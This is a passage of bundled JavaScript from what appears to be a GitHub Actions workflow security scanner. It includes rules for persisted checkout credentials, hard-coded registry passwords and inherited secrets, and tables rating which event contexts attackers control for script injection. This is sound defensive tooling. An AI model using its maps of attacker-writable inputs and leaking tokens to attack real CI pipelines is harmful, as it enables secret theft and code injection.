    if (asksInText(withoutCommentedLines(script.text)))
        return true;
    const text = withoutComments(script);
    return asksInText(text) || (mayRunTask(text) && script.commands.some(runsPushingTask));
}
function asksInText(text) {
    return PUSHING_TOOL.test(text) || logicalLines(text).some(asksRemote);
}
/** A line without such a word, and without what would be asked for it, runs no such task: that needs no parser. */
function mayRunTask(text) {
    if (/\bhub\b/.test(text))
        return true;
    return logicalLines(text).some((line) => PUSHING_WORD.test(line) &&
        (RUNNER_NAME.test(line) || line.split(/\s+/).some((word) => /[/\\.]/.test(word) && PUSHING_WORD.test(word))));
}
/** What surely isn't in a comment, for none begins without its sign. */
function withoutCommentedLines(text) {
    return text.includes("#") ? text.replace(/^.*#.*$/gm, "") : text;
}
function withoutComments({ text, regions }) {
    if (!text.includes("#"))
        return text;
    let kept = "";
    let at = 0;
    for (const { quoting, start, end } of regions) {
        if (quoting !== "comment")
            continue;
        kept += text.slice(at, start);
        at = end;
    }
    return kept + text.slice(at);
}
/** Pieces between line breaks and the operators of shells; a line that goes on is one with the next. */
function logicalLines(text) {
    return text.replace(/[\\`^]\r?\n/g, " ").split(/[\n;|&]/);
}
/** Looked for in all text, as `git push` may be an argument, or a string of a program. */
function asksRemote(line) {
    const git = line.search(/\bgit\b/);
    return (git !== -1 && ASKS_REMOTE.test(line.slice(git))) || ASKS_REMOTE_ITSELF.test(line);
}
const EXECUTE = ["exec", "run", "run-script", "shell", "tool", "x"];
/** Behind these the words name tasks, tools or scripts; where subcommands are given, only behind one of them. */
const RUNNERS = new Map([
    ...runners("ant auto bash brew bun bunx cargo changeset deno docusaurus fastlane gmake gradle gradlew inv invoke"),
    ...runners("just ksh lage lerna mage make mike mill mkdocs mvn mvnw node nox npx nx php pnpm pnpx pwsh powershell"),
    ...runners("py python rake ruby rush sbt sh source task tox ts-node tsx turbo uvx yarn zsh ."),
    ...runners("bundle composer conda dotnet go hatch mamba mise nix pdm pipenv pipx pixi poetry rye uv", EXECUTE),
    ...runners("docker podman", ["exec", "run"]),
    // `npm version` runs the package's `postversion`, which is there to push.
    ...runners("npm", [...EXECUTE, "version"]),
]);
function runners(names, subcommands) {
    return names.split(" ").map((name) => [name, subcommands ? new Set(subcommands) : null]);
}
const RUNNER_NAME = new RegExp(`(?:^|[^\\w-])(?:${[...RUNNERS.keys()].filter((name) => name !== ".").join("|")}|python[\\d.]+|\\.)(?:\\.(?:exe|cmd|bat))?(?=[\\s"']|$)`, "i");
/** Their own `publish` sends a package to a registry. */
const REGISTRY_CLIENTS = new Set(["bun", "cargo"]);
/** `./ci/release.sh`, `make publish`, `npx nx release`, `python -m semantic_release version`. */
function runsPushingTask(command) {
    const { name, args } = (0,lib_shell/* effectiveCommand */.l1)(command);
    const program = name?.literal ?? name?.text ?? "";
    if (/[/\\.]/.test(program) && PUSHING_WORD.test(program))
        return true;
    const called = programName(program);
    // All that it adds to git asks GitHub.
    if (called === "hub")
        return true;
    const subcommands = RUNNERS.get(called);
    if (subcommands === undefined)
        return false;
    const words = args.flatMap(({ literal, text }) => (literal ?? text).split(/\s+/)).filter(isTaskName);
    if (REGISTRY_CLIENTS.has(called) && words[0] === "publish")
        return false;
    return ((subcommands === null || words.some((word) => subcommands.has(word))) &&
        words.some((word) => PUSHING_WORD.test(word)));
}
/** Not an option, a setting or code. */
function isTaskName(word) {
    return /^[\w@.+:/\\][\w@.+/\\:-]*$/.test(word);
}
/** `./gradlew` → `gradlew`, `C:\tools\python3.12.exe` → `python`. */
function programName(path) {
    const last = path.slice(Math.max(path.lastIndexOf("/"), path.lastIndexOf("\\")) + 1).toLowerCase();
    return last.replace(/\.(?:exe|cmd|bat)$/, "").replace(/^python[\d.]+$/, "python");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/artipacked.js








const INPUT = "persist-credentials";
/* harmony default export */ const artipacked = (defineRule({
    id: "artipacked",
    category: "credentials",
    severity: "medium",
    isZizmor: true,
    fixes: "both",
    summary: "A checkout leaves its credential on disk",
    risk: "Every later step can read the token from there, the tools and scripts of dependencies too; and where the workspace is uploaded, everyone who can download the artifact.",
    mend: "Set `persist-credentials: false`. A step that pushes gets its own token.",
    sources: [
        "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
        "https://github.com/actions/checkout#usage",
    ],
    examples: { flagged: [], silent: [] },
    job(job, report) {
        judgeSteps(job.steps, false, report);
    },
    // Steps of the caller come after those of a composite action.
    action(action, report) {
        if (action.kind === "composite")
            judgeSteps(action.steps, true, report);
    },
}));
function judgeSteps(steps, hasUnseenSteps, report) {
    const first = steps.findIndex((step) => personaOf(step) !== null);
    if (first === -1)
        return;
    const later = new LaterSteps(hasUnseenSteps, report);
    for (const step of steps.slice(first).reverse()) {
        const persona = personaOf(step);
        if (persona)
            judgeCheckout(step, later, persona, report);
        later.add(step);
    }
}
/** What is known of the steps behind one, gathered from the last to the first. */
class LaterSteps {
    hasUnseen;
    report;
    isEmpty = true;
    mayPush;
    /** By the folder of the workspace that they take along; `.` is the workspace. */
    uploads = new Map();
    constructor(hasUnseen, report) {
        this.hasUnseen = hasUnseen;
        this.report = report;
        this.mayPush = hasUnseen;
    }
    add(step) {
        this.isEmpty = false;
        this.mayPush ||= mayNeedGitCredential(step, this.report.repository);
        const upload = artifactUploadOf(step);
        for (const folder of upload?.folders ?? []) {
            const found = { step, isSure: upload?.isSure === true };
            this.uploads.set(folder, better(found, this.uploads.get(folder)));
        }
    }
    /** The upload that takes the folder along, or one that it lies in. */
    uploadOf(folder) {
        const parts = folder === "." ? [] : folder.split("/").slice(0, MOST_FOLDERS);
        const holders = [".", ...parts.map((_, index) => parts.slice(0, index + 1).join("/"))];
        const uploads = holders.flatMap((holder) => this.uploads.get(holder) ?? []);
        return uploads.reduce((best, upload) => better(upload, best), undefined);
    }
}
/** What is sure before what isn't, then the first. */
function better(a, b) {
    if (!b)
        return a;
    if (a.isSure !== b.isSure)
        return a.isSure ? a : b;
    return a.step.index < b.step.index ? a : b;
}
/** Folders that lie deeper are made to be slow. */
const MOST_FOLDERS = 50;
/** Null where no credential is kept. */
function personaOf(step) {
    if (!step.uses?.is("actions/checkout"))
        return null;
    if (step.hasDynamicInputs)
        return "pedantic";
    const setting = step.input(INPUT)?.value;
    if (setting?.kind !== "scalar" || setting.isNull)
        return "regular";
    if ((0,model/* expressionsIn */.l$)(setting).length > 0)
        return (0,model/* isConstant */.VO)(setting, false) ? null : "pedantic";
    // The action compares with "true" and knows no other word for it.
    return setting.value.trim().toLowerCase() === "true" ? "auditor" : null;
}
function judgeCheckout(step, later, persona, report) {
    const upload = later.uploadOf(folderOf(step));
    const severity = artipacked_severityOf(step, upload !== undefined);
    const confidence = upload ? (upload.isSure ? "high" : "medium") : later.isEmpty ? "low" : "medium";
    const message = upload ? uploadMessage(upload) : diskMessage(later);
    const related = upload ? [{ place: firstLineOf(upload.step.map), message: "the workspace is uploaded here" }] : [];
    report(firstLineOf(step.map), message, {
        severity,
        confidence,
        persona,
        related,
        fix: persona === "auditor" ? null : fixOf(step, !later.mayPush),
    });
}
function uploadMessage({ isSure }) {
    const message = "The checkout leaves its token in the workspace, which is uploaded as an artifact";
    return isSure ? message : `${message}; whether that action's version leaves hidden files out isn't known`;
}
function diskMessage(later) {
    const hasReaders = !later.isEmpty || later.hasUnseen;
    const readers = hasReaders ? "every later step can read it" : "no later step reads it today";
    return `The checkout leaves its token on disk; ${readers}`;
}
/** Where in the workspace the repository is put. */
function folderOf(step) {
    const path = step.input("path")?.value;
    return path?.kind === "scalar" ? (0,model/* normalizePath */.Fd)(path.value) || "." : ".";
}
/** Since v6 the credential lies outside the workspace, where an upload doesn't take it along. */
function artipacked_severityOf({ uses }, isUploaded) {
    const severity = isUploaded ? "high" : "medium";
    const major = uses && usedVersion(uses)?.[0];
    return (major ?? 0) >= 6 ? (0,lib/* lowered */.DM)(severity) : severity;
}
function fixOf(step, safe) {
    const edit = setIn(step.map, "with", INPUT, "false", step.map.entry("uses"));
    return edit && { description: `set \`${INPUT}: false\``, safe, edits: [edit] };
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/expressions/index.js + 13 modules
var expressions = __webpack_require__(6481);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/hardcoded-container-credentials.js



/* harmony default export */ const hardcoded_container_credentials = (defineRule({
    id: "hardcoded-container-credentials",
    category: "credentials",
    severity: "high",
    isZizmor: true,
    summary: "A registry password stands in the workflow",
    risk: "Everyone who can read the repository, or any old clone of it, can pull and perhaps push images with this password.",
    mend: "Revoke the password, store a new one as a secret, and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.",
    sources: [
        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials",
    ],
    examples: { flagged: [], silent: [] },
    container(container, report) {
        const password = container.credentials?.scalar("password");
        if (!password || password.isNull || password.value === "" || isFromElsewhere(password))
            return;
        const whose = container.kind === "container" ? "the job's container" : `the service \`${container.name}\``;
        report(password, `The registry password of ${whose} is written out`);
    },
}));
/** An expression, in which no text of its own may be the password: `secrets.X || 'fallback'` writes one out. */
function isFromElsewhere(password) {
    const whole = (0,model/* wholeExpression */.wY)(password)?.expression;
    if (!whole)
        return (0,model/* expressionsIn */.l$)(password).length > 0;
    return (0,expressions/* resultLeaves */.uo)(whole).every((leaf) => leaf.kind !== "literal" || typeof leaf.value !== "string" || leaf.value === "");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/visit-scalars.js
/**
 * Calls `visit` for every scalar value below a node, each once however many aliases lead there.
 *
 * @param isWorth says of a node whether to look into it
 */
function visitScalars(node, visit, isWorth = () => true) {
    const seen = new Set();
    const enter = (current) => {
        if (seen.has(current) || !isWorth(current))
            return;
        seen.add(current);
        if (current.kind === "scalar")
            visit(current);
        else if (current.kind === "seq")
            for (const item of current.items)
                enter(item.value);
        else
            for (const entry of current.entries)
                enter(entry.value);
    };
    enter(node);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/named-secrets.js



/** The secrets that expressions below a node name, as they write them; `*` where the name is computed or all are meant. */
function secretsNamedBelow(node) {
    const names = [];
    const mayHold = mentionsOf(node.file);
    visitScalars(node, (scalar) => collectSecretsNamedIn(scalar, names), mayHold);
    return names;
}
function collectSecretsNamedIn(scalar, names) {
    for (const embedded of (0,model/* expressionsIn */.l$)(scalar)) {
        // Few expressions speak of secrets: the others needn't be parsed for this.
        if (!/secrets/i.test(embedded.body) || !embedded.expression)
            continue;
        for (const { segments, node } of (0,expressions/* references */.Ft)(embedded.expression)) {
            if (segments[0] !== "secrets")
                continue;
            const name = segments[1] ?? "*";
            names.push(name === "*" ? name : asWritten(scalar.value.slice(node.start, node.end), name));
        }
    }
}
function asWritten(text, name) {
    const at = text.toLowerCase().indexOf(name, "secrets".length);
    return at === -1 ? name : text.slice(at, at + name.length);
}
const cache = new WeakMap();
/** Whether a node may speak of secrets, told from the text, so that the rest of the file needn't be made into a tree. */
function mentionsOf(file) {
    let mayHold = cache.get(file);
    if (!mayHold) {
        mayHold = readMentions(file.text);
        cache.set(file, mayHold);
    }
    return mayHold;
}
/** By these a node can hold what isn't written in its own lines: anchors, and the escapes of double-quoted text. */
const SPEAKS_ELSEWHERE = /(?:^|[\s:,[{-])&[^\s&]|\\[xuU]/m;
function readMentions(text) {
    if (SPEAKS_ELSEWHERE.test(text))
        return () => true;
    const offsets = Array.from(text.matchAll(/secrets/gi), ({ index }) => index);
    return ({ start, end }) => {
        const first = firstFrom(offsets, start);
        return first !== undefined && first < end;
    };
}
/** The least of the sorted offsets that isn't below `start`. */
function firstFrom(offsets, start) {
    let low = 0;
    let high = offsets.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (offsets[middle] < start)
            low = middle + 1;
        else
            high = middle;
    }
    return offsets[low];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/secrets-inherit.js



/* harmony default export */ const secrets_inherit = (defineRule({
    id: "secrets-inherit",
    category: "credentials",
    severity: "medium",
    isZizmor: true,
    fixes: "unsafe",
    summary: "A called workflow gets every secret of the caller",
    risk: "Whoever changes the called workflow, or finds a hole in it, takes every secret of this repository and its organization, not only those that it needs.",
    mend: "Pass the secrets that it needs, by name: `secrets: {TOKEN: ${{ secrets.TOKEN }}}`.",
    sources: [
        "https://docs.github.com/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow",
    ],
    examples: { flagged: [], silent: [] },
    reusableJob(job, report) {
        if (!job.inheritsSecrets || !job.secrets)
            return;
        report(job.secrets.value, `\`${job.uses.text}\` gets every secret`, { fix: listSecrets(job, report) });
    },
}));
/**
 * A local callee shows which secrets it uses. GitHub passes only declared ones by name, so the others are declared. Where
 * it names an environment, its secrets may be that environment's, which can't be passed by name.
 */
function listSecrets(job, report) {
    const callee = report.repository.resolve(job.uses);
    if (callee?.kind !== "workflow" || !job.secrets)
        return null;
    const names = secretsUsedBy(callee);
    if (names?.length === 0)
        return passNone(job);
    const declaration = names && declareMissing(callee, names);
    if (!names || !declaration || callee.jobs.some((called) => called.map.entry("environment")))
        return null;
    const pairs = names.map((name) => `${name}: "\${{ secrets.${name} }}"`);
    const edit = setValue(job.secrets, `{${pairs.join(", ")}}`);
    return (edit && {
        description: "pass only the secrets that the called workflow uses",
        safe: false,
        edits: [edit],
        others: declaration.length > 0 ? [{ path: callee.path, edits: declaration }] : [],
    });
}
/** An empty mapping would be no valid `secrets`. */
function passNone(job) {
    const edit = job.secrets && removeEntry(job.map, job.secrets);
    return edit ? { description: "pass no secret: the called workflow uses none", safe: false, edits: [edit] } : null;
}
/** Null where the callee's `workflow_call` has no form to which a declaration can be added. */
function declareMissing(callee, names) {
    const trigger = callee.trigger("workflow_call");
    const on = callee.on?.value;
    if (!trigger || on?.kind !== "map")
        return null;
    const declared = new Set(trigger.secrets.map(({ key }) => key.value.toLowerCase()));
    const missing = names.filter((name) => !declared.has(name.toLowerCase()));
    if (missing.length === 0)
        return [];
    // Optional, as an inherited secret is that doesn't exist.
    const edits = trigger.settings?.entry("secrets")
        ? missing.map((name) => setIn(trigger.settings, "secrets", name, "{required: false}"))
        : [setIn(on, "workflow_call", "secrets", `{${missing.map((name) => `${name}: {required: false}`).join(", ")}}`)];
    const found = edits.filter((edit) => edit !== null);
    // Insertions at one place come in no order: one edit holds them all.
    return found.length === edits.length ? [joined(found)] : null;
}
function joined(edits) {
    const [first] = edits;
    return { ...first, text: edits.map(({ text }) => text).join("") };
}
/** By called workflow: many jobs call the same one. */
const used = new WeakMap();
/** Null when it may use any. */
function secretsUsedBy(workflow) {
    let names = used.get(workflow);
    if (names === undefined) {
        names = readSecretsUsedBy(workflow);
        used.set(workflow, names);
    }
    return names;
}
function readSecretsUsedBy(workflow) {
    if (workflow.jobs.some((called) => called.kind === "reusable" && called.inheritsSecrets))
        return null;
    const names = new Map();
    const add = (name) => names.set(name.toLowerCase(), names.get(name.toLowerCase()) ?? name);
    for (const { key } of workflow.trigger("workflow_call")?.secrets ?? [])
        add(key.value);
    secretsNamedBelow(workflow.root).forEach(add);
    names.delete("github_token");
    return names.has("*") ? null : [...names.values()].sort();
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/code-inputs.js
/**
 * Inputs of well-known actions that are code: what is expanded into them is run.
 *
 * By action in lower case; the language decides how a value can be handed over without being expanded.
 */
const CODE_INPUTS = new Map([
    ["8398a7/action-slack", ["custom_payload"]],
    ["actions/github-script", ["script"]],
    ["addnab/docker-run-action", ["run", "options"]],
    ["amadevus/pwsh-script", ["script"]],
    ["appleboy/ssh-action", ["script"]],
    ["azure/cli", ["inlinescript"]],
    ["azure/powershell", ["inlinescript"]],
    ["cardinalby/export-env-action", ["envfile"]],
    ["cardinalby/js-eval-action", ["expression"]],
    ["cypress-io/github-action", ["command", "install-command", "build", "start"]],
    ["devorbitus/yq-action-output", ["cmd"]],
    ["docker/bake-action", ["set"]],
    ["gautamkrishnar/blog-post-workflow", ["item_exec"]],
    ["jannekem/run-python-script-action", ["script"]],
    ["mikefarah/yq", ["cmd"]],
    ["nick-fields/retry", ["command", "on_retry_command"]],
    ["nickcharlton/diff-check", ["command"]],
    ["reactivecircus/android-emulator-runner", ["script"]],
    ["uraimo/run-on-arch-action", ["run", "install"]],
    ["vmactions/freebsd-vm", ["run", "prepare"]],
]);
/** The inputs of an action that are code, in lower case. `name` is `owner/repo[/path]` in lower case. */
function codeInputsOf(name) {
    return CODE_INPUTS.get(name) ?? [];
}
/** The language of an action's code inputs, where a value can be read from the environment in it. */
function languageOf(name) {
    return name === "actions/github-script" ? "javascript" : "unknown";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/contexts.js
/** Contexts outside `github.event` whose text is the platform's own, or a name too narrow to break out of a script. */
const FIXED_GITHUB = new Set([
    "action_path",
    "action_status",
    "actor",
    "actor_id",
    "api_url",
    "env",
    "event_name",
    "event_path",
    "graphql_url",
    "job",
    "path",
    "ref_protected",
    "ref_type",
    "repository",
    "repository_id",
    "repository_owner",
    "repository_owner_id",
    "repositoryurl",
    "retention_days",
    "run_attempt",
    "run_id",
    "run_number",
    "secret_source",
    "server_url",
    "sha",
    "step_summary",
    "token",
    "triggering_actor",
    "workflow_sha",
    "workspace",
]);
/** Last words of a payload's path that are numbers, dates, hashes, logins, flags or words from a closed list. */
const FIXED_FIELDS = new Set([
    "+1",
    "-1",
    "active_lock_reason",
    "additions",
    "after",
    "archived",
    "author_association",
    "auto_merge",
    "before",
    "changed_files",
    "color",
    "comments",
    "commits",
    "conclusion",
    "deleted",
    "deletions",
    "disabled",
    "distinct",
    "draft",
    "forced",
    "fork",
    "forks",
    "full_name",
    "gravatar_id",
    "id",
    "is_template",
    "line",
    "locked",
    "login",
    "maintainer_can_modify",
    "mergeable",
    "mergeable_state",
    "merged",
    "node_id",
    "number",
    "open_issues",
    "original_line",
    "original_position",
    "position",
    "prerelease",
    "private",
    "rebaseable",
    "review_comments",
    "run_attempt",
    "run_number",
    "sha",
    "side",
    "site_admin",
    "size",
    "slug",
    "start_line",
    "state",
    "state_reason",
    "status",
    "timestamp",
    "topics",
    "type",
    "user_view_type",
    "visibility",
    "watchers",
    "workflow_id",
]);
/** Fields of the payload itself, beside its objects. */
const FIXED_TOP = new Set([
    "action",
    "after",
    "before",
    "created",
    "deleted",
    "forced",
    "number",
    "ref_type",
]);
const FIXED_ENDINGS = ["_at", "_count", "_id", "_sha"];
/** Objects whose addresses are made of logins, names of repositories, numbers and hashes alone. */
const PLAIN_ADDRESSES = new Set([
    "actor",
    "author",
    "check_run",
    "comment",
    "discussion",
    "forkee",
    "head_repository",
    "issue",
    "organization",
    "owner",
    "pull_request",
    "repo",
    "repository",
    "review",
    "sender",
    "triggering_actor",
    "user",
    "workflow_run",
]);
/**
 * Rates a context of `github.…`; undefined for one that is no `github` context.
 *
 * @param segments lower case, `*` for an index or a filter
 * @see the webhook payloads of the events that trigger workflows; GitHub's guide "Script injections"
 */
function rateGithubContext(segments) {
    if (segments[0] !== "github")
        return undefined;
    const field = segments[1];
    if (field === undefined || field === "*")
        return "arbitrary";
    if (field !== "event")
        return FIXED_GITHUB.has(field) ? "fixed" : "arbitrary";
    return ratePayload(segments.slice(2));
}
function ratePayload(path) {
    // Objects, when printed, print everything in them; `labels.*` is one, too.
    const last = path.findLast((segment) => segment !== "*");
    const first = path[0];
    if (last === undefined || first === undefined)
        return "arbitrary";
    if (first === "inputs" || first === "client_payload")
        return "arbitrary";
    // `changes.title.from` holds the old title.
    if (first === "changes")
        return "arbitrary";
    if (path.length === 1)
        return FIXED_TOP.has(last) ? "fixed" : "arbitrary";
    if (FIXED_FIELDS.has(last) || FIXED_ENDINGS.some((ending) => last.endsWith(ending)))
        return "fixed";
    if (last === "name")
        return isRepositoryName(path) ? "fixed" : "arbitrary";
    if (last === "url" || last.endsWith("_url") || last === "href")
        return rateAddress(path);
    return "arbitrary";
}
function isRepositoryName(path) {
    const parent = path.at(-2);
    return parent === "repository" || parent === "repo" || parent === "forkee" || parent === "head_repository";
}
function rateAddress(path) {
    const parent = path.at(-2) ?? "";
    return PLAIN_ADDRESSES.has(parent) || path.at(-3) === "_links" ? "fixed" : "structured";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/rating.js




const HARMLESS = { severity: "low", confidence: "high", persona: "pedantic" };
/** An `env.X` that stands for another `env.X` is followed this far. */
const MAX_ENV_HOPS = 5;
/**
 * Rates what an expression may expand to in a step: the worst of the contexts whose text reaches its result.
 *
 * The scale is zizmor's for `template-injection`, so that both tools speak of the same places; contexts that can't hold a
 * character that breaks out (numbers, hashes, logins) are harmless here.
 */
function rateExpression(expression, step) {
    return rate(expression, step, 0);
}
function rate(expression, step, hops) {
    let worst = { ...HARMLESS, source: "", why: "expanded into code, which is safe only as long as its text is" };
    for (const { segments, node } of (0,expressions/* dataflow */.z5)(expression)) {
        const rating = rateContext(segments, step, hops);
        if (rating && isWorse(rating, worst))
            worst = { ...rating, node };
    }
    return worst;
}
function isWorse(a, b) {
    if (a.persona !== b.persona)
        return a.persona === "regular";
    return (0,lib/* compareSeverity */.zK)(a.severity, b.severity) < 0 || (a.severity === b.severity && b.source === "");
}
function rateContext(segments, step, hops) {
    const source = segments.join(".");
    switch (segments[0]) {
        case "github":
            return rateGithub(segments, step, source);
        case "inputs":
            return rateInput(segments[1], step, source);
        case "env":
            return rateEnv(segments[1], step, source, hops);
        case "matrix":
            return rateMatrix(segments.slice(1), step, source);
        case "secrets":
            return undefined;
        case "steps":
        case "needs":
        case "jobs":
            return rateOutput(segments, source);
        case "runner":
            return undefined;
        default:
            return { severity: "info", confidence: "low", persona: "regular", source, why: "not fixed by this file" };
    }
}
function rateGithub(segments, step, source) {
    if (segments[1] === "event" && segments[2] === "inputs" && segments[3] !== undefined && segments[3] !== "*") {
        return rateInput(segments[3], step, source);
    }
    const capability = rateGithubContext(segments);
    if (capability === "fixed")
        return undefined;
    if (capability === "structured") {
        return {
            severity: "medium",
            confidence: "high",
            persona: "regular",
            source,
            why: "partly an attacker's own words",
        };
    }
    return { severity: "high", confidence: "high", persona: "regular", source, why: "what an attacker may write" };
}
function rateInput(name, step, source) {
    const declared = name === undefined ? [] : declarationsOf(step, name);
    if (declared.length === 0) {
        return {
            severity: "low",
            confidence: "low",
            persona: "regular",
            source,
            why: "an input that this file doesn't declare",
        };
    }
    const isText = declared.some((input) => input.type === "string");
    if (!isText)
        return { ...HARMLESS, source, why: `an input of type ${declared[0]?.type}` };
    return { severity: "high", confidence: "high", persona: "regular", source, why: "whatever the caller passes" };
}
function declarationsOf(step, name) {
    const { owner } = step;
    const inputs = owner.kind === "composite"
        ? owner.inputs
        : ["workflow_call", "workflow_dispatch"].flatMap((event) => owner.workflow.trigger(event)?.inputs ?? []);
    return inputs.filter((input) => input.name.toLowerCase() === name);
}
/** A variable is as bad as the expression that it was set from; one that isn't set here may be set by an earlier step. */
function rateEnv(name, step, source, hops) {
    const value = name === undefined ? undefined : step.variable(name)?.value;
    if (!value) {
        return {
            severity: "low",
            confidence: "high",
            persona: "regular",
            source,
            why: "a variable that isn't set in this file",
        };
    }
    const expressions = (0,model/* expressionsIn */.l$)(value);
    if (expressions.length === 0)
        return { ...HARMLESS, source, why: "a variable with fixed text" };
    let worst = {
        severity: "low",
        confidence: "high",
        persona: "regular",
        source,
        why: "a variable set from an expression",
    };
    for (const { expression } of hops < MAX_ENV_HOPS ? expressions : []) {
        const inner = expression && rate(expression, step, hops + 1);
        if (inner?.persona === "regular" && isWorse(inner, worst)) {
            worst = { ...inner, why: `set from \`${inner.source}\`, ${inner.why}` };
        }
    }
    return worst;
}
function rateMatrix(path, step, source) {
    const matrix = step.owner.kind === "normal" ? step.owner.matrix : null;
    if (!matrix)
        return undefined;
    const { values, isOpen } = matrix.valuesOf(path);
    if (!isOpen && values.every((value) => (0,model/* expressionsIn */.l$)(value).length === 0))
        return undefined;
    return {
        severity: "medium",
        confidence: "medium",
        persona: "regular",
        source,
        why: "a matrix value that an expression fills",
    };
}
const CLEAN_OUTCOMES = new Set(["conclusion", "outcome", "result"]);
function rateOutput(segments, source) {
    if (segments.length === 3 && CLEAN_OUTCOMES.has(segments[2]))
        return undefined;
    return { severity: "info", confidence: "low", persona: "regular", source, why: "what an earlier step or job wrote" };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/event-contexts.js
const PULL_REQUESTS = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"];
/** Which events fill an object of the payload, or a context that comes from one; others leave it null. */
const SET_BY = new Map([
    ["github.head_ref", ["pull_request", "pull_request_target"]],
    ["github.base_ref", ["pull_request", "pull_request_target"]],
    ["github.event.pull_request", PULL_REQUESTS],
    ["github.event.review", ["pull_request_review"]],
    ["github.event.comment", ["issue_comment", "pull_request_review_comment", "discussion_comment", "commit_comment"]],
    ["github.event.issue", ["issues", "issue_comment"]],
    ["github.event.discussion", ["discussion", "discussion_comment"]],
    ["github.event.workflow_run", ["workflow_run"]],
    ["github.event.pages", ["gollum"]],
    ["github.event.forkee", ["fork"]],
    ["github.event.merge_group", ["merge_group"]],
    ["github.event.client_payload", ["repository_dispatch"]],
]);
/** May one of the events that start a step's workflow set this context? True where that can't be known. */
function isSetBy(source, { owner }) {
    const events = eventsThatSet(source);
    if (!events || owner.kind === "composite")
        return true;
    const { triggers } = owner.workflow;
    return triggers.length === 0 || triggers.some(({ event }) => event === "workflow_call" || events.includes(event));
}
/** Do all events that start a step's workflow set this context? False where that can't be known. */
function isAlwaysSet(source, { owner }) {
    const events = eventsThatSet(source);
    if (!events)
        return !source.startsWith("github.event.");
    if (owner.kind === "composite")
        return false;
    const { triggers } = owner.workflow;
    return triggers.length > 0 && triggers.every(({ event }) => events.includes(event));
}
/** Undefined where it isn't known, and for what is there in every run. */
function eventsThatSet(source) {
    const path = source.split(".");
    return SET_BY.get(path.slice(0, 2).join(".")) ?? SET_BY.get(path.slice(0, 3).join("."));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/our-names.js

/** Made-up names: they differ from whatever an expression compares them with. */
const OTHER_REPOSITORY = "this-owner/this-repository";
const OTHER_BRANCH = "the-default-branch";
/** By hand nobody writes more; all pairs are tried. */
const MOST_NAMES = 30;
const DEFAULT_BRANCH = "github.event.repository.default_branch";
const REPOSITORY = new Set([
    "github.repository",
    "github.event.repository.full_name",
    "github.event.pull_request.base.repo.full_name",
    "github.event.workflow_run.repository.full_name",
]);
const OWNER = new Set([
    "github.repository_owner",
    "github.event.repository.owner.login",
    "github.event.pull_request.base.repo.owner.login",
    "github.event.pull_request.base.user.login",
    "github.event.workflow_run.repository.owner.login",
]);
/** The ways in which an expression's tests of our names may come out: each name that it tests for, and another one. */
function namesOfOurs(expression) {
    const repositories = new Set([OTHER_REPOSITORY]);
    const branches = new Set([OTHER_BRANCH]);
    for (const [path, text] of testedTexts(expression)) {
        if (path === DEFAULT_BRANCH)
            branches.add(text);
        else if (OWNER.has(path))
            repositories.add(`${text}/this-repository`);
        else if (REPOSITORY.has(path))
            repositories.add(text.includes("/") ? text : `${text}/this-repository`);
    }
    const someBranches = [...branches].slice(0, MOST_NAMES);
    return [...repositories]
        .slice(0, MOST_NAMES)
        .flatMap((repository) => someBranches.map((defaultBranch) => ({ repository, defaultBranch })));
}
/** Contexts with the constant texts that they are compared with, or that a function such as `contains` is given beside them. */
function testedTexts(expression) {
    const found = [];
    (0,expressions/* visitExpression */.wM)(expression, (node) => {
        if (node.kind !== "binary" && node.kind !== "call")
            return;
        const operands = (0,expressions/* childrenOf */.LU)(node);
        const texts = operands.flatMap(constantTexts);
        for (const operand of operands) {
            const path = (0,expressions/* contextPath */.VJ)(operand)?.segments.join(".");
            if (path !== undefined)
                found.push(...texts.map((text) => [path, text]));
        }
    });
    return found;
}
/** A text, or those of a list. */
function constantTexts(expression) {
    const result = (0,expressions/* evaluate */._3)(expression, expressions/* NOTHING_KNOWN */.GN);
    return result.known ? [result.value].flat().filter((value) => typeof value === "string") : [];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/triggers.js
/**
 * Events that anybody can fire in a public repository, without write access.
 *
 * @see Events that trigger workflows; a scan of the webhook documentation for who can cause each
 */
const FIRED_BY_ANYONE = new Set([
    "commit_comment",
    "discussion",
    "discussion_comment",
    "fork",
    "gollum",
    "issue_comment",
    "issues",
    "pull_request",
    "pull_request_review",
    "pull_request_review_comment",
    "pull_request_target",
    "watch",
    "workflow_run",
]);
/** Of these, the ones whose runs get secrets and a full token all the same: they run in the base repository's context. */
const UNPRIVILEGED = new Set([
    "pull_request",
    "pull_request_review",
    "pull_request_review_comment",
]);
function isFiredByAnyone(event) {
    return FIRED_BY_ANYONE.has(event);
}
/** Can anybody start a run that holds secrets and a write token by this event? */
function isPrivileged(event) {
    return FIRED_BY_ANYONE.has(event) && !UNPRIVILEGED.has(event);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/strangers.js




const STRANGERS_ID = 2;
const STRANGERS_FORK = { repository: "a-stranger/fork", id: (0,expressions/* known */.eO)(STRANGERS_ID) };
const OUR_ID = {
    equals: (other) => (other === STRANGERS_ID ? false : undefined),
    startsWith: () => undefined,
    endsWith: () => undefined,
    contains: () => undefined,
};
/** What fired the run before a `workflow_run`: strangers fired that, too. */
const EVENT_OF_STRANGERS = {
    ...(0,expressions/* textAfter */.eC)(""),
    equals: (other) => (typeof other === "string" && !isFiredByAnyone(other.toLowerCase()) ? false : undefined),
};
/** Their runs belong to the pull request's own ref; those of all other events that strangers fire, to a branch of ours. */
const ON_MERGE_REF = new Set([
    "pull_request",
